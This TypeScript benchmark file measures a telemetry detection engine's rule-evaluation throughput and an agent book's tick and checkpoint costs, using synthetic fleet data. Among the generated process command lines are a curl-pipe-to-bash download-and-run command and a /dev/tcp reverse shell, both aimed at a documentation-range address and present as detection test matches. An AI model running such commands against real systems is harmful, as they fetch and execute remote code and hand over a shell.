/**
 * `npm run bench -- detect` or `node --import tsx bench/detect.ts`: telemetry items/s evaluated
 * against the whole built-in pack, beside references measured in the same run on the same items —
 * JSON.parse of their bytes (what reading them off a stream costs at least) and a loop that reads
 * and lower-cases the fields the rules look at; then the detector on a real TELEMETRY stream
 * against a raw ordered read of it (the goal, ≥ 0.5) and the notification latency from
 * alert to receiver through the outbox (bench/detector.ts). Between them, the agent book at 50,000
 * agents: a tick against a pass over every agent, and the checkpoint's size and rate.
 */
import { pathToFileURL } from 'node:url';
import { AgentEvents } from '../commands/agents/events.ts';
import { AgentBook } from '../src/detect/agents.ts';
import { compileRuleset, evaluate, loadPack } from '../src/detect/mod.ts';
import { CHECKPOINT_CHARS_PER_S } from '../src/detect/partition.ts';
import type { EventEnvelope } from '../src/domain/events.ts';
import { EVENT_PARTITIONS } from '../src/log/mod.ts';
import type { DetectItem } from '../src/detect/records.ts';
import { benchDetector } from './detector.ts';
import { report } from './util.ts';

const N = 100_000;
const ROUNDS = 5;

// A mix like a busy Linux fleet's: mostly process starts, then connections, a few account changes;
// six items in a hundred match a rule (one each for six rules), far more than a real fleet.
const CMDLINES = [
  '/usr/lib/systemd/systemd-journald',
  'sshd: alice [priv]',
  'ls --color=auto -la /var/log',
  'python3 /opt/app/manage.py runserver 0.0.0.0:8000 --settings=app.production --noreload',
  'sh -c /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null',
  'git -c core.quotepath=false status --porcelain=v2 --branch --untracked-files=all',
  'java -Xmx2g -jar /opt/service/service.jar --spring.profiles.active=prod',
  'curl -s -o /dev/null -w %{http_code} http://127.0.0.1:8080/healthz',
];

function items(n: number): DetectItem[] {
  const out: DetectItem[] = [];
  for (let i = 0; i < n; i++) {
    const r = i % 100;
    if (r < 70) {
      const suspicious = r === 0 ? 'sh -c curl -fsSL http://203.0.113.9/x.sh | bash' : r === 1 ? 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' : null;
      out.push({
        kind: 'process',
        pid: 1000 + i,
        ppid: 900 + (i % 50),
        uid: i % 7 === 0 ? 0 : 1000,
        user: i % 7 === 0 ? 'root' : 'alice',
        exe: r === 2 ? '/tmp/.x/kworker' : r === 3 ? '/usr/bin/dash' : ['/usr/bin/python3.11', '/usr/bin/ls', '/usr/bin/perl', '/usr/lib/jvm/bin/java'][i % 4]!,
        name: ['python3', 'ls', 'sh', 'java'][i % 4]!,
        sha256: 'ab'.repeat(32),
        cmdline: suspicious ?? CMDLINES[i % CMDLINES.length]!,
        cmdlineTruncated: false,
        startedAt: '2026-11-30T10:00:00.000Z',
        cwd: '/home/alice',
        parentExe: r === 3 ? '/usr/sbin/nginx' : '/usr/lib/systemd/systemd',
        parentName: 'systemd',
        parentCmdline: '/sbin/init splash',
      });
    } else if (r < 95) {
      out.push({
        kind: 'connection',
        protocol: 'tcp',
        state: 'ESTABLISHED',
        localAddress: '10.0.0.5',
        localPort: 40000 + (i % 20000),
        remoteAddress: `198.51.100.${i % 250}`,
        remotePort: 443,
        pid: 1000 + i,
        exe: r === 70 ? '/usr/bin/bash' : '/usr/bin/python3.11',
        user: 'alice',
      });
    } else {
      out.push({
        kind: 'account-change',
        source: 'local',
        change: r === 95 ? 'group-member-added' : 'modified',
        account: `user${i % 300}`,
        uid: 1000 + (i % 300),
        group: r === 95 ? 'sudo' : null,
        privileged: false,
        details: { attribute: 'shell', before: '/bin/sh', after: '/bin/bash' },
      });
    }
  }
  return out;
}

function opsPerSecond(n: number, fn: () => void): number {
  const t0 = process.hrtime.bigint();
  fn();
  return n / (Number(process.hrtime.bigint() - t0) / 1e9);
}

function median(xs: number[]): number {
  return [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
}

/** Evaluation throughput of the built-in pack against two references measured on the same items. */
export async function benchDetect(): Promise<void> {
  const pack = await loadPack();
  const set = compileRuleset(pack);
  const data = items(N);
  const bytes = data.map((x) => Buffer.from(JSON.stringify(x)));
  const avg = Math.round(bytes.reduce((n, b) => n + b.length, 0) / N);
  let matches = 0;
  for (const x of data) matches += evaluate(set, x).length;
  console.log(`  ${pack.length} rules, ${N} items (~${avg} bytes each), ${matches} matches; median of ${ROUNDS} rounds`);

  let sink = 0;
  const parse: number[] = [];
  const fields: number[] = [];
  const evalOnly: number[] = [];
  const parseEval: number[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    parse.push(
      opsPerSecond(N, () => {
        for (const b of bytes) sink += (JSON.parse(b.toString('utf8')) as { pid?: number }).pid ?? 0;
      }),
    );
    // What any matcher must at least do: read each field a rule names and fold its case.
    fields.push(
      opsPerSecond(N, () => {
        for (const x of data) {
          if (x.kind === 'process') sink += x.exe.toLowerCase().length + x.cmdline.toLowerCase().length + (x.parentExe?.toLowerCase().length ?? 0) + x.uid;
          else if (x.kind === 'connection') sink += (x.exe?.toLowerCase().length ?? 0) + x.remoteAddress.length + x.localPort;
          else if (x.kind === 'account-change') sink += x.change.length + x.account.toLowerCase().length + (x.group?.toLowerCase().length ?? 0);
        }
      }),
    );
    evalOnly.push(
      opsPerSecond(N, () => {
        for (const x of data) sink += evaluate(set, x).length;
      }),
    );
    parseEval.push(
      opsPerSecond(N, () => {
        for (const b of bytes) sink += evaluate(set, JSON.parse(b.toString('utf8')) as DetectItem).length;
      }),
    );
  }
  if (sink === -1) console.log(sink);

  report('JSON.parse of the item bytes (reference)', median(parse), 'items/s');
  report('read and lower-case the fields rules use (reference)', median(fields), 'items/s');
  report('evaluate against the whole pack (parsed items)', median(evalOnly), 'items/s', { label: 'JSON.parse', value: median(parse) });
  report('evaluate, same', median(evalOnly), 'items/s', { label: 'field loop', value: median(fields) });
  // No goal here: the goal (≥ 0.5) is against a raw ordered read of the stream, which the lead adds.
  report('JSON.parse + evaluate', median(parseEval), 'items/s', { label: 'JSON.parse alone', value: median(parse) });

  benchAgentBook();
  console.log('  on the stream:');
  await benchDetector(items, N);
}

const BOOK_AGENTS = 50_000;
const MIN = 60_000;

/**
 * The detector's agent book at fleet size: 50,000 agents over 20 tenants, each heard from once a
 * minute (spread evenly), ticked each second for eleven simulated minutes. A tick looks only at the
 * agents due; the reference is one pass over every agent parsing its certificate's expiry (what each
 * tick did before). Then the checkpoint: its size, one serialization, and how often the default
 * rate writes it.
 */
function benchAgentBook(): void {
  const t0 = Date.parse('2026-12-01T00:00:00.000Z');
  const book = new AgentBook(10 * MIN);
  const envelope = (type: string, tenant: string, id: string, atMs: number, data: unknown): EventEnvelope => ({
    id: `e-${id}-${atMs}`,
    type,
    tenant,
    aggregate: { type: 'agent', id },
    version: 1,
    at: new Date(atMs).toISOString(),
    actor: { kind: 'agent', id },
    causationId: null,
    correlationId: null,
    schema: 1,
    data,
  });
  // Agent i reports at second i mod 60 of each minute; certificates end spread over a day.
  const agents = Array.from({ length: BOOK_AGENTS }, (_, i) => ({
    tenant: `tenant-${i % 20}`,
    id: `agent-${String(i).padStart(6, '0')}`,
    phaseMs: Math.floor((i * 60_000) / BOOK_AGENTS),
  }));
  let seq = 0;
  for (const [i, a] of agents.entries()) {
    const notAfter = new Date(t0 + 90 * 86_400_000 + Math.floor((i * 86_400_000) / BOOK_AGENTS)).toISOString();
    const cert = { hostname: `${a.id}.corp.example`, os: 'linux', agentVersion: '1.4.2', certFingerprint: 'ab'.repeat(32), certNotAfter: notAfter };
    book.observe(a.tenant, a.id, [envelope(AgentEvents.enrolled, a.tenant, a.id, t0 - 60_000 + a.phaseMs, cert)], ++seq);
  }
  book.tick(t0);
  // Eleven minutes, a tick each second: every agent passes the moment it was first queued for (its
  // silence, 10 minutes after it enrolled) and is queued again.
  const SECONDS = 660;
  let tickNs = 0;
  let looked = 0;
  let next = 0;
  for (let s = 1; s <= SECONDS; s++) {
    const now = t0 + s * 1000;
    // Heartbeat n is agent n mod N's in minute n / N: in the order they come.
    for (; ; next++) {
      const a = agents[next % agents.length]!;
      const at = t0 + Math.floor(next / agents.length) * 60_000 + a.phaseMs;
      if (at > now) break;
      book.observe(a.tenant, a.id, [envelope(AgentEvents.heartbeat, a.tenant, a.id, at, { inventory: null, agentVersion: '1.4.2' })], ++seq);
    }
    const t = process.hrtime.bigint();
    book.tick(now);
    tickNs += Number(process.hrtime.bigint() - t);
    looked += book.lastTickLooked;
  }
  const ticks = SECONDS;
  // The reference: each agent's certificate expiry parsed and compared, every tick.
  const json = book.toJson();
  const all = Object.values(json).flatMap((m) => Object.values(m));
  let sink = 0;
  const passStart = process.hrtime.bigint();
  for (let r = 0; r < 10; r++) {
    const now = t0 + (SECONDS + 1 + r) * 1000;
    for (const a of all) {
      if (!a.revoked && !a.silent && now - a.lastSeenMs >= 10 * MIN) sink++;
      if (a.cert && Math.floor((Date.parse(a.cert.notAfter) - now) / 86_400_000) !== a.cert.days) sink++;
    }
  }
  const passMs = Number(process.hrtime.bigint() - passStart) / 1e6 / 10;
  if (sink === -1) console.log(sink);
  console.log(`  agent book: ${BOOK_AGENTS.toLocaleString('en-US')} agents heard from once a minute, ticked each second`);
  report('a tick (agents due only)', tickNs / 1e6 / ticks, 'ms', { label: 'a pass over every agent (before)', value: passMs });
  report('agents looked at per tick', looked / ticks, 'agents');
  const serStart = process.hrtime.bigint();
  const text = JSON.stringify(json);
  const serMs = Number(process.hrtime.bigint() - serStart) / 1e6;
  const perPartition = text.length / EVENT_PARTITIONS;
  const everyS = Math.max(5, perPartition / CHECKPOINT_CHARS_PER_S);
  report('checkpoint text, all partitions', text.length / 1e6, 'MB');
  report('one serialization of it', serMs, 'ms');
  report('checkpoint written to KV', text.length / everyS / 1e6, 'MB/s', { label: 'every 5 s (before)', value: text.length / 5 / 1e6 });
  console.log(`  (each partition's checkpoint every ${everyS.toFixed(0)} s instead of 5 s)`);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  await benchDetect();
  process.exit(0);
}
